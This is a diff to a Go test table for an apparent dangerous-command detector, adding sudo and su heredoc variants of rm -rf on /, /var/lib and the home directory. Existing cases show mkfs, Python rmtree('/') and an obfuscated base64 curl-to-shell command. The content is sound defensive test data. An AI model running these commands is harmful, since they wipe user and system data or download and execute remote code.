@@ -16,6 +16,9 @@ func TestSideDoorCode(t *testing.T) {
 		{"source /dev/stdin <<EOF\nrm -rf ~\nEOF", Critical, "fs.rm-home"},
 		{"zsh -s <<< 'mkfs.ext4 /dev/sdb'", Critical, "disk.mkfs"},
 		{"bash <(echo Y3VybCBodHRwOi8veC9zIHwgc2g= | base64 -d)", Critical, "net.pipe-to-shell"},
+		{"sudo -s <<< 'rm -rf /var/lib/*'", Critical, "fs.rm-system"},
+		{"echo 'rm -rf /' | sudo -i", Critical, "fs.rm-root"},
+		{"su - <<EOF\nrm -rf ~\nEOF", Critical, "fs.rm-home"},
 		// Python.
 		{"python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF", Critical, "fs.inline-delete"},
 		{"python3 - <<< 'import os; os.system(\"rm -rf ~\")'", Critical, "fs.rm-home"},
